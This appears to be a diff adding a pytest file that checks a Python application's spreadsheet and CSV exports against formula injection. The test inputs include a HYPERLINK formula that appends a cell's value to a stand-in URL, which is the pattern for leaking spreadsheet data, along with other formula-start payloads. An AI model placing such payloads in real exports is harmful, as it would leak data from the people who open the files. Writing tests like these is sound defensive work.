@@ -1,0 +1,102 @@
+"""Spreadsheets the application writes: text that looks like a formula stays text."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from makarem_desk.importer import ImportPlan, Problem
+from makarem_desk.spreadsheet_cells import csv_text, sheet_bytes
+from makarem_desk.sync.summary import build_summary
+
+HYPERLINK = '=HYPERLINK("http://x/"&A1,"x")'
+TRICKY = [HYPERLINK, "+966 5 1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1+1", "#N/A", "=1"]
+
+
+def _summary_with_reason(reason: str) -> bytes:
+    app = {"reference": "RYD1-2026-000001", "beneficiary_id": "b", "program_id": "p",
+           "status": "rejected", "decision_reason": reason, "missing_items": []}
+    ben = {"first_name": "=محمد", "family_name": "القحطاني", "identity_number": "1000000008"}
+    return build_summary([app], {"b": ben}, {"p": {"name_ar": "@برنامج"}})
+
+
+def _sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist()
+                       if n.startswith("xl/worksheets/"))
+
+
+def test_decision_reason_with_a_formula_is_text_in_the_batch_summary() -> None:
+    data = _summary_with_reason(HYPERLINK)
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws is not None
+    reason = ws.cell(row=2, column=10)
+    assert reason.value == HYPERLINK and reason.data_type == "s"
+    assert reason.quotePrefix  # Excel/LibreOffice keep it text when the cell is edited
+    assert ws.cell(row=2, column=2).data_type == "s"  # a name typed as "=محمد"
+    xml = _sheet_xml(data)
+    assert "<f>" not in xml and "<f " not in xml
+    assert "HYPERLINK" in xml  # it is there, as text
+
+
+@pytest.mark.parametrize("text", TRICKY)
+def test_every_formula_start_is_written_as_text(text: str) -> None:
+    data = sheet_bytes("s", ["h"], [[text]])
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws is not None
+    cell = ws.cell(row=2, column=1)
+    assert cell.data_type == "s"
+    assert cell.value.lstrip("\r\n") == text.lstrip("\r\n")  # XML folds a lone CR
+    assert "<f" not in _sheet_xml(data)
+
+
+def test_numbers_stay_numbers_and_odd_characters_do_not_break_the_sheet() -> None:
+    data = sheet_bytes("s", ["n", "f", "b", "d", "t"],
+                       [[1234, 2.5, True, date(2026, 1, 2), "reason\x01with a control char"]])
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws is not None
+    n, f, b, d, t = (ws.cell(row=2, column=i) for i in range(1, 6))
+    assert (n.value, n.data_type) == (1234, "n")
+    assert (f.value, f.data_type) == (2.5, "n")
+    assert (b.value, b.data_type) == (True, "b")
+    assert d.value.date() == date(2026, 1, 2) and d.is_date
+    assert t.value == "reason\ufffdwith a control char" and not t.quotePrefix
+
+
+def test_import_problem_report_neutralises_formulas(tmp_path: Path) -> None:
+    plan = ImportPlan(tmp_path / "in.csv", "csv")
+    plan.problems.append(Problem(2, HYPERLINK, "bad", "-bad", "@سيئ", "=1+1"))
+    out = tmp_path / "report.csv"
+    plan.write_report(out)
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[1] == ["2", "'" + HYPERLINK, "'=1+1", "bad", "'-bad", "'@سيئ"]
+    assert csv_text("محمد") == "محمد" and csv_text(5) == 5
+
+
+def test_every_xlsx_writer_goes_through_the_shared_helper() -> None:
+    """A new export writing its own workbook would bypass the guard: only
+    spreadsheet_cells may create openpyxl workbooks or write-only cells."""
+    root = Path(__file__).resolve().parents[1] / "makarem_desk"
+    offenders = []
+    for path in root.rglob("*.py"):
+        if path.name == "spreadsheet_cells.py":
+            continue
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            names: list[str] = []
+            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
+                names = [a.name for a in node.names]
+            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
+                    and node.value.id == "openpyxl":
+                names = [node.attr]
+            if {"Workbook", "WriteOnlyCell", "Cell"} & set(names):
+                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
+    assert offenders == []
